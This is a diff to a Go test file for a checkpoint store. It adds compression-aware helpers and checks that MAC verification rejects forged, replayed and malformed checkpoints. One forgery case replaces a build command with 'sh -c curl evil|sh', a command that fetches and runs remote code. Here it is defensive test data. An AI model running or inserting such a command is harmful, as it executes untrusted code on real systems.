@@ -16,6 +16,34 @@ func testKey(b byte) []byte { return bytes.Repeat([]byte{b}, runstore.KeySize) }
 
 const cpKey1 = "runs/r1/checkpoints/00000000000000000001.json"
 
+// rewrite is a bucket writer's edit of a stored checkpoint: it replaces
+// old with new in the checkpoint's JSON and stores it compressed again,
+// keeping any MAC line as it was.
+func rewrite(t *testing.T, raw []byte, old, new string) []byte {
+	t.Helper()
+	header, body := splitMAC(raw)
+	plain, err := runstore.Decompress(body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	edited := bytes.ReplaceAll(plain, []byte(old), []byte(new))
+	if bytes.Equal(edited, plain) {
+		t.Fatalf("test setup: %s not found in the record", old)
+	}
+	return append(header, runstore.Compress(edited)...)
+}
+
+// splitMAC returns a stored checkpoint's MAC line (empty when it has
+// none) and its body, each a copy.
+func splitMAC(raw []byte) (header, body []byte) {
+	raw = bytes.Clone(raw)
+	if !runstore.Signed(raw) {
+		return nil, raw
+	}
+	i := bytes.IndexByte(raw, '\n') + 1
+	return raw[:i:i], raw[i:]
+}
+
 func toolCheckpoint(run string, seq int64, argv ...string) *runstore.Checkpoint {
 	cp := checkpoint(run, seq)
 	cp.Graph = graph.Graph{Name: "loop", Start: "check", Nodes: []graph.Node{{ID: "check", Kind: graph.KindTool, Run: argv}}}
@@ -44,10 +72,7 @@ func TestCheckpointMACRefusesForgeries(t *testing.T) {
 		t.Fatalf("Get of the signed checkpoint = %v, %v", got, err)
 	}
 
-	forged := bytes.Replace(raw, []byte(`"make","test"`), []byte(`"sh","-c","curl evil|sh"`), 1)
-	if bytes.Equal(forged, raw) {
-		t.Fatal("test setup: argv not found in the record")
-	}
+	forged := rewrite(t, raw, `"make","test"`, `"sh","-c","curl evil|sh"`)
 	cases := map[string]struct {
 		key  string
 		data []byte
@@ -55,7 +80,7 @@ func TestCheckpointMACRefusesForgeries(t *testing.T) {
 	}{
 		"argv rewritten":        {cpKey1, forged, runstore.ErrCheckpointAuth},
 		"replayed under seq 2":  {"runs/r1/checkpoints/00000000000000000002.json", raw, runstore.ErrCheckpointAuth},
-		"replayed under run r2": {"runs/r2/checkpoints/00000000000000000001.json", bytes.ReplaceAll(raw, []byte(`"run_id":"r1"`), []byte(`"run_id":"r2"`)), runstore.ErrCheckpointAuth},
+		"replayed under run r2": {"runs/r2/checkpoints/00000000000000000001.json", rewrite(t, raw, `"run_id":"r1"`, `"run_id":"r2"`), runstore.ErrCheckpointAuth},
 		"unsigned":              {"runs/r3/checkpoints/00000000000000000001.json", raw[bytes.IndexByte(raw, '\n')+1:], runstore.ErrUnsignedCheckpoint},
 		"truncated header":      {"runs/r4/checkpoints/00000000000000000001.json", []byte("TCK1 abc\n{}"), runstore.ErrCheckpointAuth},
 		"header not hex":        {"runs/r5/checkpoints/00000000000000000001.json", append([]byte("TCK1 "+strings.Repeat("zz", 32)+"\n"), raw[bytes.IndexByte(raw, '\n')+1:]...), runstore.ErrCheckpointAuth},
@@ -133,7 +158,7 @@ func TestCheckpointSignMigration(t *testing.T) {
 	}
 	// A signed record that fails its MAC is never re-signed.
 	raw, _ := blob.GetBytes(ctx, b, cpKey1)
-	if err := blob.PutBytes(ctx, b, cpKey1, bytes.Replace(raw, []byte(`"make"`), []byte(`"evil"`), 1)); err != nil {
+	if err := blob.PutBytes(ctx, b, cpKey1, rewrite(t, raw, `"make"`, `"evil"`)); err != nil {
 		t.Fatal(err)
 	}
 	if _, err := keyed.Sign(ctx, "r1"); !errors.Is(err, runstore.ErrCheckpointAuth) {
@@ -162,13 +187,17 @@ func TestCheckpointReadIsCapped(t *testing.T) {
 	}
 }
 
-// FuzzCheckpointUnseal feeds arbitrary records to MAC verification and
-// decoding: nothing panics, and whatever verifies under the key is exactly
+// FuzzCheckpointUnseal feeds arbitrary records to MAC verification,
+// decompression and decoding: nothing panics, a body that does not
+// decompress is ErrCorruptCheckpoint, and whatever verifies under the key is exactly
 // what Seal produced for that run and number.
 func FuzzCheckpointUnseal(f *testing.F) {
 	key := testKey(7)
-	body, _ := runstore.Encode(toolCheckpoint("r1", 1, "make"))
+	plain, _ := runstore.Encode(toolCheckpoint("r1", 1, "make"))
+	body := runstore.Compress(plain)
 	f.Add(runstore.Seal(key, "r1", 1, body), "r1", int64(1))
+	f.Add(runstore.Seal(key, "r1", 1, plain), "r1", int64(1))
+	f.Add(body[:len(body)-3], "r1", int64(1))
 	f.Add(runstore.Seal(key, "r1", 1, body), "r1", int64(2))
 	f.Add(body, "r1", int64(1))
 	f.Add([]byte("TCK1 \n"), "r", int64(0))
@@ -182,8 +211,12 @@ func FuzzCheckpointUnseal(f *testing.F) {
 		} else if !bytes.Equal(runstore.Seal(key, run, seq, got), data) {
 			t.Fatalf("Unseal accepted %q, which Seal did not produce", data)
 		}
-		if plain, err := runstore.Unseal(nil, run, seq, data); err == nil {
-			_, _ = runstore.Decode(plain)
+		if body, err := runstore.Unseal(nil, run, seq, data); err == nil {
+			if plain, err := runstore.Decompress(body); err == nil {
+				_, _ = runstore.Decode(plain)
+			} else if !errors.Is(err, runstore.ErrCorruptCheckpoint) {
+				t.Fatalf("Decompress error %v is not ErrCorruptCheckpoint", err)
+			}
 		}
 	})
 }
